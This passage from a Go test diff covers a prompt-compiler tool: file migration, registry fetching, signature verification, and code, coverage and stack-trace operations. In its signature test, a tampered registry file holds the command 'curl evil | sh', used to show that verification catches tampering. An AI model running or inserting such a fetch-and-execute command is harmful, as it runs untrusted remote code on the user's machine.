+	for _, line := range []string{"--- prompt.yml\n", "@@ -1,8 +1,10 @@\n", "+version: 2\n", " # Shared review prompt\n", "+    ok_exit_codes: [0, 1]\n"} {
+		if !strings.Contains(diff, line) {
+			t.Errorf("Diff is missing %q:\n%s", line, diff)
+		}
+	}
+
+	// The migrated file compiles to the same output
+	tmpDir := t.TempDir()
+	original := "prompt:\n  - command: \"echo partial; exit 1\"\n"
+	upgraded, err := migratePromptFile([]byte(original))
+	if err != nil {
+		t.Fatalf("migratePromptFile failed: %v", err)
+	}
+	var outputs []string
+	for i, content := range []string{original, string(upgraded)} {
+		promptFile := filepath.Join(tmpDir, fmt.Sprintf("prompt%d.yml", i))
+		if err := os.WriteFile(promptFile, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true})
+		if err != nil {
+			t.Fatalf("compilePromptFile failed: %v", err)
+		}
+		text, _ := renderOutput(compiled, "text", "xml", defaultSectionSeparator)
+		outputs = append(outputs, text)
+	}
+	if outputs[0] != outputs[1] {
+		t.Errorf("Migration changed the output:\n%s\nvs\n%s", outputs[0], outputs[1])
+	}
+}
+
+func TestMigrateFileCommands(t *testing.T) {
+	legacy := `version: 2
+prompt:
+  # The sources
+  - command: "cat src/*.go README.md"
+  - command: "find docs -name '*.md' | xargs cat"
+  - command: "find ./lib -type f -exec cat {} +"
+  - command: "find . -type f -name *.txt -exec cat {} \\;"
+  - command: "cat src/**/*.go"
+  - command: "cat 'src/*.go'"
+  - command: "cat src/*.go | head"
+  - command: "find src -name '*.go' -newer go.mod | xargs cat"
+  - command: "cat {{dir}}/*.go"
+  - command: "cat src/*.go"
+    capture_as: sources
+`
+	migrated, err := migratePromptFile([]byte(legacy))
+	if err != nil {
+		t.Fatalf("migratePromptFile failed: %v", err)
+	}
+	expected := `version: 2
+prompt:
+  # The sources
+  - file: "src/*.go"
+  - file: "README.md"
+  - file: "docs/**/*.md"
+  - dir: "lib"
+  - file: "**/*.txt"
+  - command: "cat src/**/*.go"
+  - command: "cat 'src/*.go'"
+  - command: "cat src/*.go | head"
+  - command: "find src -name '*.go' -newer go.mod | xargs cat"
+  - command: "cat {{dir}}/*.go"
+  - command: "cat src/*.go"
+    capture_as: sources
+`
+	if string(migrated) != expected {
+		t.Errorf("Unexpected migration:\n%s", migrated)
+	}
+
+	// A version 1 file is converted as well as upgraded, and the converted
+	// operations get no ok_exit_codes
+	migrated, err = migratePromptFile([]byte("prompt:\n  - command: \"cat notes.txt\"\n  - command: \"make check\"\n"))
+	if err != nil {
+		t.Fatalf("migratePromptFile failed: %v", err)
+	}
+	expected = "version: 2\nprompt:\n  - file: \"notes.txt\"\n  - command: \"make check\"\n    ok_exit_codes: [0, 1]\n"
+	if string(migrated) != expected {
+		t.Errorf("Unexpected migration:\n%s", migrated)
+	}
+
+	// The converted file compiles to a section per file
+	tmpDir := t.TempDir()
+	for _, name := range []string{"src/a.go", "src/b.go", "src/.hidden.go"} {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(tmpDir, name)), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte("package "+strings.TrimSuffix(filepath.Base(name), ".go")+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create file: %v", err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	upgraded, err := migratePromptFile([]byte("version: 2\nprompt:\n  - command: \"cat src/*.go\"\n"))
+	if err != nil {
+		t.Fatalf("migratePromptFile failed: %v", err)
+	}
+	if err := os.WriteFile(promptFile, upgraded, 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	var sources []string
+	for _, section := range compiled.Sections {
+		sources = append(sources, section.Source)
+	}
+	if !slices.Equal(sources, []string{"src/a.go", "src/b.go"}) {
+		t.Errorf("Expected a section per file, got %v", sources)
+	}
+}
+
+func TestBuiltinPrompts(t *testing.T) {
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	write := func(content string) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+	}
+	opts := Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true}
+
+	write("prompt:\n  - text: \"Some change\"\n  - prompt: \"builtin:code-review\"\n  - prompt: \"builtin:code-review\"\n    include_once: true\n")
+	compiled, err := compilePromptFile(opts)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Sections) != 2 || compiled.Sections[1].Source != "builtin:code-review" || !strings.Contains(compiled.Sections[1].Content, "severity") {
+		t.Errorf("Expected the code review rubric, got %+v", compiled.Sections)
+	}
+	for _, dep := range compiled.Dependencies {
+		if strings.Contains(dep, builtinPrefix) {
+			t.Errorf("Builtin prompts are not file dependencies, got %v", compiled.Dependencies)
+		}
+	}
+
+	// Every builtin compiles on its own
+	for _, name := range builtinPromptNames() {
+		if _, err := compilePromptFile(Options{PromptFile: builtinPrefix + name, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true}); err != nil {
+			t.Errorf("builtin:%s does not compile: %v", name, err)
+		}
+	}
+
+	write("prompt:\n  - prompt: \"builtin:nope\"\n")
+	if _, err := compilePromptFile(opts); err == nil || !strings.Contains(err.Error(), "available: code-review, commit-message, patch-output") {
+		t.Errorf("Expected an unknown builtin error listing the builtins, got %v", err)
+	}
+}
+
+func TestRegistryPrompts(t *testing.T) {
+	component := "prompt:\n  - text: \"Shared rubric\"\n"
+	sum := sha256.Sum256([]byte(component))
+	pin := hex.EncodeToString(sum[:])
+	requests := 0
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests++
+		if r.URL.Path != "/org/review/v1.yml" {
+			http.NotFound(w, r)
+			return
+		}
+		fmt.Fprint(w, component)
+	}))
+	defer server.Close()
+
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(promptContent, registry string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true, CacheDir: filepath.Join(tmpDir, "cache"), Registry: registry})
+	}
+
+	pinned := fmt.Sprintf("prompt:\n  - prompt: \"registry:org/review@v1\"\n    sha256: %q\n", pin)
+	compiled, err := compile(pinned, server.URL)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Sections) != 1 || compiled.Sections[0].Source != "registry:org/review@v1" || !strings.Contains(compiled.Sections[0].Content, "Shared rubric") {
+		t.Errorf("Expected the registry component, got %+v", compiled.Sections)
+	}
+
+	// Fetched versions are reused from the cache, even without a registry
+	if _, err := compile(pinned, ""); err != nil {
+		t.Errorf("Cached registry prompt should compile offline, got %v", err)
+	}
+	if requests != 1 {
+		t.Errorf("Expected a single fetch, got %d", requests)
+	}
+
+	wrongPin := strings.Replace(pinned, pin, strings.Repeat("0", 64), 1)
+	if _, err := compile(wrongPin, server.URL); err == nil || !strings.Contains(err.Error(), "but sha256 pins") {
+		t.Errorf("Expected a checksum mismatch, got %v", err)
+	}
+	var fetchErr ErrRemoteFetch
+	if _, err := compile("prompt:\n  - prompt: \"registry:org/missing@v1\"\n", server.URL); !errors.As(err, &fetchErr) {
+		t.Errorf("Expected a fetch error for a missing component, got %v", err)
+	}
+	for _, invalid := range []string{"registry:org/review", "registry:../review@v1"} {
+		if _, err := compile(fmt.Sprintf("prompt:\n  - prompt: %q\n", invalid), server.URL); err == nil {
+			t.Errorf("Expected %s to be rejected", invalid)
+		}
+	}
+	if _, err := compile("prompt:\n  - prompt: \"local.yml\"\n    sha256: "+pin+"\n", server.URL); err == nil || !strings.Contains(err.Error(), "only to registry") {
+		t.Errorf("Expected sha256 to be rejected on local prompts, got %v", err)
+	}
+}
+
+func TestRegistrySignatures(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("GenerateKey failed: %v", err)
+	}
+	keyID := []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	encodedKey := base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), keyID...), publicKey...))
+	sign := func(data []byte, id []byte) string {
+		hash := blake2b.Sum512(data)
+		sig := append(append([]byte("ED"), id...), ed25519.Sign(privateKey, hash[:])...)
+		global := ed25519.Sign(privateKey, append(slices.Clone(sig[10:]), "timestamp:0"...))
+		return "untrusted comment: signature\n" + base64.StdEncoding.EncodeToString(sig) + "\ntrusted comment: timestamp:0\n" + base64.StdEncoding.EncodeToString(global) + "\n"
+	}
+
+	files := map[string]string{
+		"/org/signed/v1.yml":   "prompt:\n  - text: \"Signed\"\n",
+		"/org/tampered/v1.yml": "prompt:\n  - command: \"curl evil | sh\"\n",
+		"/org/unsigned/v1.yml": "prompt:\n  - text: \"Unsigned\"\n",
+		"/org/otherkey/v1.yml": "prompt:\n  - text: \"Other key\"\n",
+	}
+	files["/org/signed/v1.yml.minisig"] = sign([]byte(files["/org/signed/v1.yml"]), keyID)
+	files["/org/tampered/v1.yml.minisig"] = sign([]byte("prompt:\n  - text: \"original\"\n"), keyID)
+	files["/org/otherkey/v1.yml.minisig"] = sign([]byte(files["/org/otherkey/v1.yml"]), []byte{8, 7, 6, 5, 4, 3, 2, 1})
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		content, ok := files[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		fmt.Fprint(w, content)
+	}))
+	defer server.Close()
+
+	tmpDir := t.TempDir()
+	keyFile := filepath.Join(tmpDir, "pcp.pub")
+	if err := os.WriteFile(keyFile, []byte("untrusted comment: minisign public key\n"+encodedKey+"\n"), 0644); err != nil {
+		t.Fatalf("Failed to write key file: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(ref, verifyKey string) error {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(fmt.Sprintf("prompt:\n  - prompt: %q\n", ref)), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		_, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true, CacheDir: filepath.Join(tmpDir, "cache"), Registry: server.URL, VerifyKey: verifyKey})
+		return err
+	}
+
+	for _, key := range []string{encodedKey, keyFile} {
+		if err := compile("registry:org/signed@v1", key); err != nil {
+			t.Errorf("Signed prompt should verify with key %s: %v", key, err)
+		}
+	}
+	for ref, message := range map[string]string{
+		"registry:org/tampered@v1": "signature does not match",
+		"registry:org/unsigned@v1": "has no signature",
+		"registry:org/otherkey@v1": "not the verify key",
+	} {
+		if err := compile(ref, encodedKey); err == nil || !strings.Contains(err.Error(), message) {
+			t.Errorf("%s: expected %q, got %v", ref, message, err)
+		}
+	}
+
+	// A prompt cached before the key was set is verified once it is
+	if err := compile("registry:org/unsigned@v1", ""); err != nil {
+		t.Fatalf("Unsigned prompt should compile without a verify key: %v", err)
+	}
+	if err := compile("registry:org/unsigned@v1", encodedKey); err == nil {
+		t.Errorf("Cached unsigned prompt should fail verification")
+	}
+	if err := compile("registry:org/signed@v1", "not-a-key"); err == nil || !strings.Contains(err.Error(), "invalid verify key") {
+		t.Errorf("Expected an invalid key error, got %v", err)
+	}
+}
+
+func TestRecencyOverflow(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	repo := t.TempDir()
+	git := func(date string, args ...string) {
+		t.Helper()
+		cmd := exec.Command("git", append([]string{"-c", "user.name=pcp", "-c", "user.email=pcp@example.com"}, args...)...)
+		cmd.Dir = repo
+		cmd.Env = append(os.Environ(), "GIT_AUTHOR_DATE="+date, "GIT_COMMITTER_DATE="+date)
+		if output, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v failed: %v\n%s", args, err, output)
+		}
+	}
+	write := func(name, content string) {
+		t.Helper()
+		if err := os.WriteFile(filepath.Join(repo, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	git("", "init", "-q")
+	for _, file := range []struct {
+		name string
+		days int
+	}{{"ancient.txt", 400}, {"old.txt", 20}, {"recent.txt", 2}} {
+		write(file.name, "one two three four five\n")
+		date := time.Now().AddDate(0, 0, -file.days).Format(time.RFC3339)
+		git(date, "add", file.name)
+		git(date, "commit", "-q", "-m", file.name)
+	}
+	write("edited.txt", "one two three four five\n")
+	write("prompt.yml", "prompt:\n  - text: \"Keep these instructions\"\n  - file: ancient.txt\n  - file: old.txt\n  - file: edited.txt\n  - file: recent.txt\n")
+
+	compile := func(maxWords int) []ContentSection {
+		t.Helper()
+		compiled, err := compilePromptFile(Options{PromptFile: filepath.Join(repo, "prompt.yml"), MaxWords: maxWords, DelimiterStyle: "xml", Overflow: "recency", RecencyLookback: "90d", Quiet: true})
+		if err != nil {
+			t.Fatalf("compilePromptFile failed: %v", err)
+		}
+		return compiled.Sections
+	}
+
+	// 3 words of instructions, then the uncommitted file, then the newest
+	// commit, and the next one cut to 2 words, too few for a marker
+	sections := compile(3 + 5 + 5 + 2)
+	var sources []string
+	for _, section := range sections {
+		sources = append(sources, section.Source)
+	}
+	if !slices.Equal(sources, []string{"text", "old.txt", "edited.txt", "recent.txt"}) {
+		t.Fatalf("Expected instructions and the most recent files, in prompt order, got %v", sources)
+	}
+	if sections[1].Content != "one two\n" {
+		t.Errorf("The oldest kept file should be cut, got %q", sections[1].Content)
+	}
+
+	// Files outside the lookback rank last, in prompt order
+	sections = compile(3 + 5*4)
+	if len(sections) != 5 || strings.Contains(sections[1].Content, "truncated") {
+		t.Errorf("Everything should fit, got %+v", sections)
+	}
+
+	if err := validateOptions(Options{DelimiterStyle: "xml", RecencyLookback: "soon"}); err == nil {
+		t.Errorf("Expected an invalid lookback error")
+	}
+}
+
+func TestBinaryPolicy(t *testing.T) {
+	tmpDir := t.TempDir()
+	png := append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 24)...)
+	if err := os.WriteFile(filepath.Join(tmpDir, "logo.png"), png, 0644); err != nil {
+		t.Fatalf("Failed to write image: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(promptContent string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	var binaryErr ErrBinaryFile
+	if _, err := compile("prompt:\n  - file: logo.png\n"); !errors.As(err, &binaryErr) {
+		t.Errorf("Binary files should fail by default, got %v", err)
+	}
+
+	compiled, err := compile("prompt:\n  - file: logo.png\n    binary: stub\n")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Sections) != 1 || compiled.Sections[0].Content != "[binary file: logo.png, 32 bytes, image/png]\n" {
+		t.Errorf("Unexpected stub %+v", compiled.Sections)
+	}
+
+	compiled, err = compile("prompt:\n  - text: kept\n  - file: logo.png\n    binary: skip\n")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Sections) != 1 || len(compiled.Stats.Skipped) != 1 || !strings.Contains(compiled.Stats.Skipped[0].Description, "binary file") {
+		t.Errorf("Expected the binary file to be skipped, got %+v, %+v", compiled.Sections, compiled.Stats.Skipped)
+	}
+	if len(compiled.Stats.Warnings) != 0 {
+		t.Errorf("Skipped files should not warn, got %v", compiled.Stats.Warnings)
+	}
+
+	if _, err := compile("prompt:\n  - file: logo.png\n    binary: hexdump\n"); err == nil || !strings.Contains(err.Error(), "invalid binary policy") {
+		t.Errorf("Expected an invalid binary policy error, got %v", err)
+	}
+	if _, err := compile("prompt:\n  - text: a\n    binary: stub\n"); err == nil || !strings.Contains(err.Error(), "only to file") {
+		t.Errorf("Expected binary to be rejected on text operations, got %v", err)
+	}
+}
+
+func TestSymbolOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	source := `package server
+
+import "net/http"
+
+// Server handles logins.
+type Server struct{}
+
+// handleLogin checks credentials.
+func handleLogin(w http.ResponseWriter, r *http.Request) {
+	w.WriteHeader(http.StatusOK)
+}
+
+// ServeHTTP routes requests.
+func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	handleLogin(w, r)
+}
+
+type Admin struct{}
+
+func (Admin) ServeHTTP(w http.ResponseWriter, r *http.Request) {}
+
+func (s *Server) Close() error { return nil }
+`
+	if err := os.WriteFile(filepath.Join(tmpDir, "server.go"), []byte(source), 0644); err != nil {
+		t.Fatalf("Failed to write source: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(name string) (CompiledContent, error) {
+		t.Helper()
+		promptContent := fmt.Sprintf("prompt:\n  - symbol: {file: server.go, name: %q}\n", name)
+		if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	tests := []struct {
+		name     string
+		expected string
+	}{
+		{"handleLogin", "// handleLogin checks credentials.\nfunc handleLogin(w http.ResponseWriter, r *http.Request) {\n\tw.WriteHeader(http.StatusOK)\n}\n"},
+		{"Server.ServeHTTP", "// ServeHTTP routes requests.\nfunc (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {\n\thandleLogin(w, r)\n}\n"},
+		{"Close", "func (s *Server) Close() error { return nil }\n"},
+		{"Server", "// Server handles logins.\ntype Server struct{}\n"},
+	}
+	for _, tt := range tests {
+		compiled, err := compile(tt.name)
+		if err != nil {
+			t.Errorf("%s: compilePromptFile failed: %v", tt.name, err)
+			continue
+		}
+		if len(compiled.Sections) != 1 || compiled.Sections[0].Content != tt.expected || compiled.Sections[0].Source != "server.go#"+tt.name {
+			t.Errorf("%s: unexpected sections %+v", tt.name, compiled.Sections)
+		}
+	}
+
+	for name, message := range map[string]string{
+		"ServeHTTP":    "ambiguous in",
+		"handleLogout": "not found",
+	} {
+		if _, err := compile(name); err == nil || !strings.Contains(err.Error(), message) {
+			t.Errorf("%s: expected %q, got %v", name, message, err)
+		}
+	}
+	if _, err := compile("ServeHTTP"); err == nil || !strings.Contains(err.Error(), "Admin.ServeHTTP, Server.ServeHTTP") {
+		t.Errorf("Ambiguous symbols should list the candidates, got %v", err)
+	}
+}
+
+func TestRelatedOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	pkg := filepath.Join(tmpDir, "auth")
+	if err := os.MkdirAll(pkg, 0755); err != nil {
+		t.Fatalf("Failed to create package: %v", err)
+	}
+	files := map[string]string{
+		"login.go": `package auth
+
+import "strings"
+
+func handleLogin(user string) bool {
+	return checkPassword(strings.TrimSpace(user))
+}
+
+func checkPassword(user string) bool {
+	return lookup(user) != ""
+}
+
+func lookup(user string) string { return user }
+`,
+		"server.go": `package auth
+
+type Server struct{}
+
+func (s *Server) Login(user string) bool {
+	return handleLogin(user)
+}
+
+func unrelated() {}
+`,
+		"login_test.go": `package auth
+
+func testLogin() { handleLogin("a") }
+`,
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(pkg, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(spec string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - related: "+spec+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+	headers := func(content string) []string {
+		var found []string
+		for _, line := range strings.Split(content, "\n") {
+			if strings.HasPrefix(line, "func ") {
+				found = append(found, line)
+			}
+		}
+		return found
+	}
+
+	compiled, err := compile(`{symbol: handleLogin, dir: auth}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	expected := []string{
+		"func handleLogin(user string) bool {",
+		"func checkPassword(user string) bool {",
+		"func (s *Server) Login(user string) bool {",
+	}
+	if got := headers(compiled.Sections[0].Content); !slices.Equal(got, expected) {
+		t.Errorf("Expected the function, its callee and its caller, got %v", got)
+	}
+	if compiled.Sections[0].Source != "auth#handleLogin" || !strings.HasPrefix(compiled.Sections[0].Content, "// login.go\nfunc handleLogin") {
+		t.Errorf("Unexpected section %+v", compiled.Sections[0])
+	}
+
+	compiled, err = compile(`{symbol: handleLogin, dir: auth, depth: 2}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if got := headers(compiled.Sections[0].Content); len(got) != 4 || !strings.Contains(compiled.Sections[0].Content, "func lookup") {
+		t.Errorf("Depth 2 should reach lookup, got %v", got)
+	}
+
+	if _, err := compile(`{symbol: Server, dir: auth}`); err == nil || !strings.Contains(err.Error(), "is a type") {
+		t.Errorf("Expected types to be rejected, got %v", err)
+	}
+	if _, err := compile(`{symbol: handleLogin, depth: -1}`); err == nil || !strings.Contains(err.Error(), "negative") {
+		t.Errorf("Expected a negative depth to be rejected, got %v", err)
+	}
+}
+
+func TestWithTests(t *testing.T) {
+	tmpDir := t.TempDir()
+	for _, name := range []string{"src/login.go", "src/login_test.go", "src/app.py", "src/tests/test_app.py", "src/util.go"} {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte("content of "+name+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	promptContent := `prompt:
+  - file: src/login.go
+    with_tests: true
+    label: login
+  - file: src/app.py
+    with_tests: true
+  - file: src/util.go
+    with_tests: true
+  - file: src/login_test.go
+    with_tests: true
+`
+	if err := os.WriteFile(promptFile, []byte(promptContent), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	var sources []string
+	for _, section := range compiled.Sections {
+		sources = append(sources, section.Source)
+	}
+	expected := []string{"src/login.go", "src/login_test.go", "src/app.py", "src/tests/test_app.py", "src/util.go", "src/login_test.go"}
+	if !slices.Equal(sources, expected) {
+		t.Errorf("Expected %v, got %v", expected, sources)
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - text: a\n    with_tests: true\n"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	if _, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 100, DelimiterStyle: "xml", Quiet: true}); err == nil || !strings.Contains(err.Error(), "only to file") {
+		t.Errorf("Expected with_tests to be rejected on text operations, got %v", err)
+	}
+}
+
+func TestCoverageOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"go.mod": "module example.com/demo\n\ngo 1.22\n",
+		"auth/login.go": `package auth
+
+func Login(user string) bool {
+	return user != ""
+}
+
+func Logout(user string) {
+	_ = user
+}
+`,
+		"auth/admin.go": `package auth
+
+func Promote(user string) {}
+`,
+		"cover.out": `mode: set
+example.com/demo/auth/login.go:3.30,5.2 1 1
+example.com/demo/auth/login.go:7.25,9.2 1 0
+example.com/demo/auth/admin.go:3.27,3.29 0 0
+`,
+	}
+	for name, content := range files {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(spec string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - coverage: "+spec+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	compiled, err := compile(`{profile: cover.out}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if content := compiled.Sections[0].Content; !strings.HasPrefix(content, "// auth/login.go\npackage auth") || strings.Contains(content, "admin.go") {
+		t.Errorf("Expected only the file that ran, got %q", content)
+	}
+
+	compiled, err = compile(`{profile: cover.out, functions: true}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if expected := "// auth/login.go\nfunc Login(user string) bool {\n\treturn user != \"\"\n}\n"; compiled.Sections[0].Content != expected {
+		t.Errorf("Expected only the function that ran, got %q", compiled.Sections[0].Content)
+	}
+
+	compiled, err = compile(`{profile: cover.out, min: 75}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Stats.Warnings) == 0 || strings.Contains(compiled.Sections[0].Content, "login.go") {
+		t.Errorf("A 50%% covered file should not reach min 75, got %q", compiled.Sections[0].Content)
+	}
+
+	if _, err := compile(`{profile: cover.out, min: 120}`); err == nil || !strings.Contains(err.Error(), "percentage") {
+		t.Errorf("Expected an invalid min error, got %v", err)
+	}
+}
+
+func TestStacktraceOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"server/handler.go":                     "package server\n\nfunc Handle() {\n\tvar m map[string]int\n\tm[\"a\"] = 1\n}\n",
+		"app/views.py":                          "def index():\n    return 1 / 0\n",
+		"src/main/java/com/example/Server.java": "package com.example;\n\nclass Server {\n  void handle() { throw new IllegalStateException(); }\n}\n",
+		"panic.log": `panic: assignment to entry in nil map
+
+goroutine 1 [running]:
+example.com/demo/server.Handle()
+	/home/ci/work/demo/server/handler.go:5 +0x2c
+runtime.main()
+	/usr/local/go/src/runtime/proc.go:250 +0x1c
+Traceback (most recent call last):
+  File "/srv/demo/app/views.py", line 2, in index
+  File "<frozen runpy>", line 88, in _run_code
+Exception in thread "main" java.lang.IllegalStateException
+	at com.example.Server.handle(Server.java:4)
+	at java.base/java.lang.Thread.run(Thread.java:829)
+`,
+	}
+	for name, content := range files {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(spec string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - stacktrace: "+spec+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	compiled, err := compile(`{file: panic.log, context: 1}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	java := filepath.Join("src", "main", "java", "com", "example", "Server.java")
+	expected := "// " + filepath.Join("server", "handler.go") + " (lines 4-6)\n" +
+		"  4 | \tvar m map[string]int\n> 5 | \tm[\"a\"] = 1\n  6 | }\n\n" +
+		"// " + filepath.Join("app", "views.py") + " (lines 1-2)\n" +
+		"  1 | def index():\n> 2 |     return 1 / 0\n\n" +
+		"// " + java + " (lines 3-5)\n" +
+		"  3 | class Server {\n> 4 |   void handle() { throw new IllegalStateException(); }\n  5 | }\n"
+	if compiled.Sections[0].Content != expected {
+		t.Errorf("Unexpected excerpts:\n%s\nexpected:\n%s", compiled.Sections[0].Content, expected)
+	}
+	if compiled.Sections[0].Source != "panic.log" {
+		t.Errorf("Expected the trace as the source, got %q", compiled.Sections[0].Source)
+	}
+
+	if err := os.WriteFile(filepath.Join(tmpDir, "empty.log"), []byte("all good\n"), 0644); err != nil {
+		t.Fatalf("Failed to write trace: %v", err)
+	}
+	compiled, err = compile(`{file: empty.log}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Stats.Warnings) == 0 {
+		t.Error("Expected a warning for a trace that names no files")
+	}
+
+	if _, err := compile(`{file: panic.log, context: -1}`); err == nil || !strings.Contains(err.Error(), "negative") {
+		t.Errorf("Expected a negative context error, got %v", err)
+	}
+}
+
+func TestLogOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	logFile := filepath.Join(tmpDir, "app.log")
+	log := "2024-05-01T10:00:00Z starting\n" +
+		"2024-05-01T10:00:01Z retrying connection\n" +
+		"2024-05-01T10:00:02Z retrying connection\n" +
+		"2024-05-01T10:00:03Z retrying connection\n" +
+		"2024-05-01T10:00:04Z connected\n"
